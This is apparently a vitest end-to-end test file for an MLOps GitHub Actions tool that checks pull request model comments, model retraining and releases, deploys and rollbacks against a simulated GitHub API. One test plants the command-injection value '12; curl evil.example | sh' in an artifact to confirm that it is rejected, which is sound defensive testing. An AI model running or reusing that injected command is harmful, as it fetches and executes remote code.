import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { modelReleaseAssetNames, optionalModelReleaseAssetNames, publishModelRelease } from '../../src/github/releases.js';
import { createGitHubClient } from '../../src/github/client.js';
import { freePort } from '../../src/core/free-port.js';
import { latestRelease } from '../../src/gha/github/rest-releases.js';
import { modelCheckMarker } from '../../src/github/pr-comment.js';
import { isProcessAlive, readLocalDeployState, stopProcess } from '../../src/deploy/local-target.js';
import { createProject, stackTraceLine } from '../helpers/project.js';
import { startGitHubSimulator, type RunningSimulator } from '../github/simulator.js';
import { eventPayload, runActionEntry, telcoRows, testConfig, testRepository, testToken, type ActionRun } from './harness.js';

/**
 * The GitHub side end to end, with every action run as the runner runs it, against the GitHub
 * API simulator and a real git repository whose `origin` is a local bare repository: a pull
 * request check with its comment, two retrains that publish v1.0.0 and v1.1.0, a deploy, a
 * rollback dispatch, and a deploy whose post-deploy check fails and is rolled back.
 */

const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
const commitAll = (cwd: string, message: string) => git(cwd, '-c', 'user.name=Dev', '-c', 'user.email=dev@example.com', 'commit', '-qam', message);

let sim: RunningSimulator;
let project: string;
let origin: string;
let port: number;
const scratch = mkdtempSync(join(tmpdir(), 'mlops-flow-'));
const workDir = (name: string) => join(scratch, name);

beforeAll(async () => {
  sim = await startGitHubSimulator();
  port = await freePort();
  const config = testConfig((c) => {
    c.deploy = { target: 'local', verify: { timeout_s: 60, interval_ms: 250 }, local: { runtime: 'process', host: '127.0.0.1', port } };
  });
  project = createProject({ 'mlops.config.yaml': config, 'data/telco.csv': telcoRows(800), '.gitignore': '.mlops/\n' }, { git: true });
  origin = mkdtempSync(join(tmpdir(), 'origin-'));
  git(origin, 'init', '-q', '--bare', '-b', 'main');
  git(project, 'remote', 'add', 'origin', origin);
  git(project, 'push', '-q', 'origin', 'main');
  sim.setOrigin(origin);
});

afterAll(async () => {
  const state = project ? await readLocalDeployState(project) : null;
  if (state?.pid) await stopProcess(state.pid);
  await sim?.close();
});

const run = (action: string, inputs: Record<string, string>, event = eventPayload('workflow_dispatch', null)) =>
  runActionEntry(action, { cwd: project, inputs, apiUrl: sim.url, event: { name: event.name, path: event.path } });

function expectOk(result: ActionRun): void {
  expect(result.code, `${result.stdout}\n${result.stderr}`.slice(0, 4000)).toBe(0);
}

describe('a pull request model check', () => {
  const prEvent = (action: 'opened' | 'synchronize', sha: string) =>
    eventPayload('pull_request', action, (payload) => {
      payload.number = 12;
      payload.pull_request.number = 12;
      payload.pull_request.head.sha = sha;
      payload.repository.full_name = testRepository;
    });
  let first: ActionRun;
  let second: ActionRun;
  let secondSha: string;

  beforeAll(async () => {
    const firstSha = git(project, 'rev-parse', 'HEAD');
    sim.addPull(12, firstSha);
    expectOk(await run('validate', { 'work-dir': workDir('pr') }));
    expectOk(await run('train', { 'work-dir': workDir('pr') }));
    first = await run('evaluate-gate', { 'work-dir': workDir('pr'), comment: 'true' }, prEvent('opened', firstSha));
    secondSha = 'f'.repeat(40);
    second = await run('evaluate-gate', { 'work-dir': workDir('pr'), comment: 'true', 'comment-file': join(scratch, 'comment/body.md') }, prEvent('synchronize', secondSha));
  });

  test('passes the gate on its absolute bounds when nothing is released yet', () => {
    expectOk(first);
    expect(first.outputs).toMatchObject({ passed: 'true', 'primary-metric': 'auc', 'champion-version': '' });
    expect(Number(first.outputs['candidate-value'])).toBeGreaterThan(0.6);
    expect(first.stdout).toMatch(/No model release in octo-org\/churn-model yet/);
  });

  test('creates one comment, then updates it in place on the next push', () => {
    expectOk(second);
    const comments = sim.state.comments.filter((c) => c.issue_number === 12);
    expect(comments).toHaveLength(1);
    expect(second.outputs['comment-id']).toBe(first.outputs['comment-id']);
    expect(comments[0]!.body.startsWith(modelCheckMarker)).toBe(true);
    expect(comments[0]!.body).toContain(secondSha.slice(0, 12));
    expect(comments[0]!.body).toMatch(/✅ Model check for `f{12}`: passed/);
    expect(comments[0]!.body).toMatch(/Slices by contract/);
    expect(comments[0]!.body).toMatch(/\| auc \| [0-9.]+ \[[0-9.]+, [0-9.]+\] \|/);
    expect(comments[0]!.body).toContain('Data validation');
    expect(comments[0]!.body).toContain('https://github.com/octo-org/churn-model/actions/runs/4242');
    expect(sim.log.filter((e) => e.method === 'POST' && e.path === '/repos/octo-org/churn-model/issues/12/comments')).toHaveLength(1);
    expect(sim.log.filter((e) => e.method === 'PATCH' && e.path.startsWith('/repos/octo-org/churn-model/issues/comments/'))).toHaveLength(1);
  });

  test('writes the same Markdown to the comment file and the job summary', () => {
    const body = readFileSync(join(scratch, 'comment/body.md'), 'utf8');
    expect(second.summary).toBe(body);
    expect(second.outputs['comment-path']).toBe(join(scratch, 'comment/body.md'));
  });

  test('the workflow_run poster posts the artifact onto the same comment, and only for the tested head', async () => {
    writeFileSync(join(scratch, 'comment/pr-number'), '12\n');
    sim.addPull(12, secondSha);
    const posted = await run('pr-comment', { 'comment-dir': join(scratch, 'comment'), 'head-sha': secondSha }, eventPayload('workflow_run', 'completed'));
    expectOk(posted);
    expect(posted.outputs).toMatchObject({ 'pr-number': '12', action: 'updated', 'comment-id': first.outputs['comment-id'] });
    expect(sim.state.comments.filter((c) => c.issue_number === 12)).toHaveLength(1);

    const stale = await run('pr-comment', { 'comment-dir': join(scratch, 'comment'), 'head-sha': 'a'.repeat(40) }, eventPayload('workflow_run', 'completed'));
    expectOk(stale);
    expect(stale.outputs.action).toBe('skipped');

    writeFileSync(join(scratch, 'comment/pr-number'), '12; curl evil.example | sh\n');
    const hostile = await run('pr-comment', { 'comment-dir': join(scratch, 'comment'), 'head-sha': secondSha }, eventPayload('workflow_run', 'completed'));
    expect(hostile.code).toBe(2);
    expect(hostile.stdout).toMatch(/::error::The artifact's pr-number is not a pull request number/);
    expect(hostile.stdout + hostile.stderr).not.toMatch(stackTraceLine);
  });
});

const retrainReason = 'drift: tenure PSI 0.31 > 0.1 @octocat';

describe('retrain: register and publish', () => {
  let firstRelease: ActionRun;
  let secondGate: ActionRun;
  let secondRelease: ActionRun;

  beforeAll(async () => {
    // The pull request's run judged the same data and config: main's first retrain registers it.
    firstRelease = await run('register', { 'work-dir': workDir('pr'), publish: 'true' });

    // New data on main, and a fresh runner: the registry is empty, the champion is the release.
    writeFileSync(join(project, 'data/telco.csv'), telcoRows(1000));
    commitAll(project, 'More data');
    git(project, 'push', '-q', 'origin', 'main');
    rmSync(join(project, '.mlops'), { recursive: true, force: true });
    for (const [id, overrides] of [['base', ''], ['small', '{"model.hidden_units": [4]}']] as const) {
      // The retrain was dispatched by the monitor, with its reason (untrusted text, passed as an input).
      expectOk(await run('validate', { 'work-dir': join(scratch, 'candidates', id), 'config-overrides': overrides, reason: retrainReason }));
      expectOk(await run('train', { 'work-dir': join(scratch, 'candidates', id) }));
      const gate = await run('evaluate-gate', { 'work-dir': join(scratch, 'candidates', id), 'fail-on-reject': 'false' });
      expectOk(gate);
      if (id === 'base') secondGate = gate;
    }
    rmSync(join(project, '.mlops'), { recursive: true, force: true });
    secondRelease = await run('register', { 'candidates-dir': join(scratch, 'candidates'), publish: 'true' });
  });

  test('a passing retrain commits the card to origin/main, pushes the tag and creates the release with its assets', async () => {
    expectOk(firstRelease);
    expect(firstRelease.outputs).toMatchObject({ version: '1.0.0', created: 'true', tag: 'v1.0.0' });
    const files = git(origin, 'ls-tree', '--name-only', '-r', 'v1.0.0').split('\n');
    expect(files).toEqual(expect.arrayContaining(['model-cards/1.0.0.json', 'model-cards/1.0.0.md']));
    expect(git(origin, 'rev-parse', 'v1.0.0^{commit}')).toBe(firstRelease.outputs.commit);
    expect(git(origin, 'log', '-1', '--format=%an %s', 'v1.0.0')).toBe('github-actions[bot] Model card for telco-churn 1.0.0');
    const release = sim.state.releases.find((r) => r.tag_name === 'v1.0.0')!;
    expect(release.target_commitish).toBe(firstRelease.outputs.commit);
    // Every model file, plus the key set of the rows it trained on (for the next gate's fair comparison).
    expect(release.assets.map((a) => a.name).sort()).toEqual([...modelReleaseAssetNames, ...optionalModelReleaseAssetNames].sort());
    const versionDir = join(project, '.mlops/registry/versions/1.0.0');
    // (the registry was reset for the second retrain; compare with the committed card instead)
    const card = (await sim.assetBytes(release.assets.find((a) => a.name === 'card.md')!)).toString();
    expect(card).toBe(git(origin, 'show', 'v1.0.0:model-cards/1.0.0.md') + '\n');
    expect(release.body).toContain(card.trimEnd());
    expect(release.draft).toBe(false);
    expect(versionDir).toContain('1.0.0');
  });

  test('the next retrain compares against the released champion, downloaded into an empty registry', () => {
    expect(secondGate.outputs['champion-version']).toBe('1.0.0');
    expect(Number(secondGate.outputs['champion-value'])).toBeGreaterThan(0.5);
    expect(secondGate.stdout).toMatch(/Champion: v1\.0\.0/);
  });

  test('the sweep registers its best passing candidate as 1.1.0 (new data: a minor version) and releases it (latest once deployed)', async () => {
    expectOk(secondRelease);
    expect(secondRelease.outputs).toMatchObject({ version: '1.1.0', created: 'true', tag: 'v1.1.0' });
    const chosen = secondRelease.outputs['work-dir']!;
    expect(chosen.startsWith(join(scratch, 'candidates'))).toBe(true);
    expect(secondRelease.summary).toMatch(/\*\*\(chosen\)\*\*/);
    const released = sim.state.releases.find((r) => r.tag_name === 'v1.1.0')!;
    expect(released.draft).toBe(false);
    const lineage = JSON.parse((await sim.assetBytes(released.assets.find((a) => a.name === 'lineage.json')!)).toString());
    expect(lineage.parent_version).toBe('1.0.0');
    // Why it was trained: in the lineage as given, in the release notes (the card) escaped.
    expect(lineage.trigger).toEqual({ reason: retrainReason, event: 'workflow_dispatch' });
    expect(released.body).toContain('**Trained because** drift: tenure PSI 0.31 &gt; 0.1 &#64;octocat (GitHub event: workflow\\_dispatch)');
    // The first release, started without a reason by a dispatch, says "manual".
    expect(sim.state.releases.find((r) => r.tag_name === 'v1.0.0')!.body).toContain('**Trained because** manual (GitHub event: workflow\\_dispatch)');
    expect(git(origin, 'log', '--format=%s', 'main').split('\n').slice(0, 3)).toEqual(['Model card for telco-churn 1.1.0', 'More data', 'Model card for telco-churn 1.0.0']);
  });
});

describe('deploy and rollback', () => {
  let deployed: ActionRun;
  let rolledBack: ActionRun;
  let broken: ActionRun;
  const modelVersion = async () => ((await (await fetch(`http://127.0.0.1:${port}/model`)).json()) as { version: string }).version;

  beforeAll(async () => {
    rmSync(join(project, '.mlops'), { recursive: true, force: true });
    deployed = await run('deploy', { version: 'v1.1.0', 'mark-latest': 'true' });
    rolledBack = await run('deploy', { version: 'v1.0.0', 'mark-latest': 'true' }, eventPayload('workflow_dispatch', null, (p) => (p.inputs = { version: 'v1.0.0' })));
    // A release whose model cannot load: its server never becomes ready.
    const good = sim.state.releases.find((r) => r.tag_name === 'v1.1.0')!;
    const brokenDir = mkdtempSync(join(tmpdir(), 'broken-release-'));
    for (const asset of good.assets) {
      let bytes = await sim.assetBytes(asset);
      if (asset.name === 'model.json') {
        const modelJson = JSON.parse(bytes.toString());
        modelJson.modelTopology.config.layers[0].class_name = 'NoSuchLayer';
        bytes = Buffer.from(JSON.stringify(modelJson));
      }
      writeFileSync(join(brokenDir, asset.name), bytes);
    }
    const client = createGitHubClient(testToken, { GITHUB_API_URL: sim.url });
    git(origin, 'tag', 'v1.2.0', good.target_commitish);
    await publishModelRelease(client, { owner: 'octo-org', repo: 'churn-model' }, { tag: 'v1.2.0', targetCommitish: good.target_commitish, name: 'broken', body: '', files: good.assets.map((a) => join(brokenDir, a.name)), makeLatest: false });
    broken = await run('deploy', { version: 'v1.2.0' });
  });

  test('deploys a release into a fresh registry, checks /model and records the deployment', () => {
    expectOk(deployed);
    expect(deployed.outputs).toMatchObject({ 'deployed-version': '1.1.0', url: `http://127.0.0.1:${port}` });
    const record = sim.state.deployments.find((d) => String(d.id) === deployed.outputs['deployment-id'])!;
    expect(record).toMatchObject({ ref: 'v1.1.0', environment: 'production', payload: { version: '1.1.0', target: 'local' } });
    // Later successful deploys to the environment mark it inactive (GitHub's auto_inactive).
    expect(record.statuses.map((s) => s.state)).toEqual(['in_progress', 'success', 'inactive']);
    expect(record.statuses[1]!.environment_url).toBe(`http://127.0.0.1:${port}`);
    expect(record.statuses[1]!.log_url).toBe('https://github.com/octo-org/churn-model/actions/runs/4242');
  });

  test('a rollback dispatch deploys the earlier tag, records it, and makes its release the champion', async () => {
    expectOk(rolledBack);
    expect(rolledBack.outputs).toMatchObject({ 'deployed-version': '1.0.0', 'previous-version': '1.1.0' });
    const record = sim.state.deployments.find((d) => String(d.id) === rolledBack.outputs['deployment-id'])!;
    expect(record.ref).toBe('v1.0.0');
    expect(record.statuses.map((s) => s.state).slice(0, 2)).toEqual(['in_progress', 'success']);
    expect(latestRelease(sim.state.releases, sim.state.latest_release_id)!.tag_name).toBe('v1.0.0');
    expect(rolledBack.summary).toContain('Deployed 1.0.0');
  });

  test('a deploy whose server never becomes ready fails loudly and restores the previous version', async () => {
    expect(broken.code).toBe(6);
    expect(broken.stdout).toMatch(/::error::Deploy of 1\.2\.0 to local failed: .*never reported version 1\.2\.0.*Rolled back: 1\.0\.0 runs again/);
    expect(broken.stdout + broken.stderr).not.toMatch(stackTraceLine);
    const [failed, restored] = sim.state.deployments.slice(-2);
    expect(failed).toMatchObject({ ref: 'v1.2.0' });
    expect(failed!.statuses.map((s) => s.state)).toEqual(['in_progress', 'failure']);
    expect(restored).toMatchObject({ ref: 'v1.0.0' });
    expect(restored!.statuses.map((s) => s.state)).toEqual(['in_progress', 'success']);
    expect(await modelVersion()).toBe('1.0.0');
    const state = await readLocalDeployState(project);
    expect(state).toMatchObject({ version: '1.0.0', runtime: 'process' });
    expect(isProcessAlive(state!.pid!)).toBe(true);
  });
});
